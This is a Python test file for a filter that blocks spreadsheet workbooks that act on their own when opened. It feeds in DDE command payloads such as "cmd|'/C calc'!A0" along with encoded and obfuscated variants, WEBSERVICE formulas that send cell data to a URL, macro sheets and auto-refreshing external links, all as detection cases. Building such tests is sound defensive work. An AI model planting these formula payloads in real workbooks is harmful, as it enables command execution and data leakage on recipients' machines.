"""A workbook that does something by itself is not sent on under the report author's name."""

import pytest
from sent_workbook import call, copied, put_in, relate, sent, tried

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET, OTHER = "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"
DDE = "cmd|'/C calc'!A0"


def formula(text: str) -> str:
    """A row with a formula, as it stands in the file."""
    return f'<row r="9"><c r="A9"><f>{text}</f></c></row>'


@pytest.mark.parametrize(
    "text",
    [
        DDE,
        "WEBSERVICE(&quot;https://example.org/?&quot;&amp;B5)",
        "webservice (&quot;x&quot;)",
        "_xlfn.IMAGE(&quot;https://example.org/&quot;&amp;B5)",
        "RTD(&quot;a&quot;,,&quot;b&quot;)",
        "cmd&#124;'/C calc'!A0",
        "<![CDATA[cmd|'/C calc'!A0]]>",
        "cmd<!-- -->|'/C calc'!A0",
        "WEB<?x?>SERVICE(B5)",
    ],
)
@pytest.mark.parametrize("sheet", [SHEET, OTHER])
def test_a_formula_that_reaches_out_gets_no_copy(text: str, sheet: str) -> None:
    """However it is written, and on whichever sheet: another program starts or another computer is asked."""
    parts = sent()
    put_in(parts, sheet, "</sheetData>", formula(text))
    assert tried(parts) is None


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])
def test_a_formula_in_other_letters_gets_no_copy(encoding: str) -> None:
    """A part in an encoding of two bytes a letter is read like any other."""
    parts = sent()
    put_in(parts, OTHER, "</sheetData>", formula(DDE))
    parts[OTHER] = ('<?xml version="1.0" encoding="UTF-16"?>' + parts[OTHER].decode()).encode(encoding)
    assert tried(parts) is None


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/theme/theme9.xml", "xl/worksheets/sheet2.odd"])
def test_a_sheet_of_any_name_is_looked_at(part: str) -> None:
    """A sheet is found in a part that is named like something else."""
    parts = sent()
    put_in(parts, OTHER, "</sheetData>", formula(DDE))
    parts.pop("xl/sharedStrings.xml", None)
    parts[part] = parts.pop(OTHER)
    call(parts, part, "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")
    held = "xl/_rels/workbook.xml.rels"
    parts[held] = parts[held].replace(b"/xl/worksheets/sheet2.xml", f"/{part}".encode())
    assert tried(parts) is None


def test_a_name_that_reaches_out_gets_no_copy() -> None:
    """A defined name holds a formula too."""
    parts = sent()
    put_in(
        parts,
        "xl/workbook.xml",
        "<calcPr",
        f'<definedNames><definedName name="a">{DDE}</definedName></definedNames>',
    )
    assert tried(parts) is None


def test_an_entity_gets_no_copy() -> None:
    """No workbook declares entities; what they would become is not worked out."""
    parts = sent()
    parts[OTHER] = b'<!DOCTYPE x [<!ENTITY a "b">]>' + parts[OTHER]
    assert tried(parts) is None


@pytest.mark.parametrize(
    "inside",
    ["<ddeLink xmlns:r='r' r:id='x' ddeService='cmd' ddeTopic='/C calc'/>", "<oleLink progId='Package'/>"],
)
def test_a_link_to_another_program_gets_no_copy(inside: str) -> None:
    """This is how Excel itself keeps DDE: apart from the formula."""
    parts = sent()
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{MAIN}">{inside}</externalLink>'.encode()
    )
    assert tried(parts) is None


@pytest.mark.parametrize("how", ['refreshOnLoad="1"', 'interval="5"'])
def test_data_that_refreshes_itself_gets_no_copy(how: str) -> None:
    """A connection that asks another computer by itself is not sent on; one that waits to be asked is."""
    parts = sent()
    connection = '<connections xmlns="{}"><connection id="1" type="4" {}/></connections>'
    parts["xl/connections.xml"] = connection.format(MAIN, how).encode()
    assert tried(parts) is None
    parts["xl/connections.xml"] = connection.format(MAIN, "").encode()
    assert copied(parts)["xl/connections.xml"] == parts["xl/connections.xml"]


def test_a_pivot_table_of_other_data_that_refreshes_itself_gets_no_copy() -> None:
    """One that is worked out from the workbook's own cells does no harm."""
    part, cache = "xl/pivotCache/pivotCacheDefinition1.xml", sent()
    text = (
        '<pivotCacheDefinition xmlns="{}" refreshOnLoad="1"><cacheSource type="{}"/></pivotCacheDefinition>'
    )
    cache[part] = text.format(MAIN, "external").encode()
    assert tried(cache) is None
    cache[part] = text.format(MAIN, "worksheet").encode()
    assert copied(cache)[part] == cache[part]


def test_a_sheet_that_publishes_itself_gets_no_copy() -> None:
    """It would be written to a place of the sender's choice whenever it is saved."""
    parts = sent()
    items = '<webPublishItems><webPublishItem id="1" autoRepublish="1"/></webPublishItems>'
    put_in(parts, OTHER, "</worksheet>", items)
    assert tried(parts) is None


@pytest.mark.parametrize("kind", ["image", "oleObject", "attachedTemplate"])
def test_what_is_fetched_from_elsewhere_gets_no_copy(kind: str) -> None:
    """A linked picture tells its server who opens the file; a link that somebody clicks does not."""
    parts = sent()
    relate(parts, OTHER, kind, "https://example.org/a.png", "rId9", ' TargetMode="External"')
    assert tried(parts) is None
    parts = sent()
    relate(parts, OTHER, "hyperlink", "https://example.org/", "rId9", ' TargetMode="External"')
    assert tried(parts) is not None


@pytest.mark.parametrize(
    "source", ["https://example.org/a.png", "&#104;ttps://example.org/a", "\\\\host\\a.png"]
)
@pytest.mark.parametrize("name", ["src", "o:href"])
def test_a_picture_on_the_web_in_a_note_gets_no_copy(name: str, source: str) -> None:
    """Drawings of the old kind name their pictures themselves."""
    parts = sent()
    spaces = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    drawing = f'<xml {spaces}><v:imagedata {name}="{source}"/></xml>'
    parts["xl/drawings/vmlDrawing7.vml"] = drawing.encode()
    assert tried(parts) is None


def test_a_sheet_of_macros_gets_no_copy() -> None:
    """Macros of Excel 4 stand in cells."""
    parts = sent()
    parts["xl/macrosheets/sheet1.xml"] = f'<macrosheet xmlns="{MAIN}"/>'.encode()
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    relate(parts, "xl/workbook.xml", kind, "macrosheets/sheet1.xml", "rId99")
    assert tried(parts) is None


def test_formulas_of_a_return_do_no_harm() -> None:
    """A sum, a link that is written out, and a text with a bar in it."""
    parts = sent(
        lambda sheet: sheet.append(["=SUM(B1:B2)", '=HYPERLINK("https://a.org","A")', "Red | Amber!"])
    )
    assert copied(parts)["xl/worksheets/sheet2.xml"] == parts["xl/worksheets/sheet2.xml"]
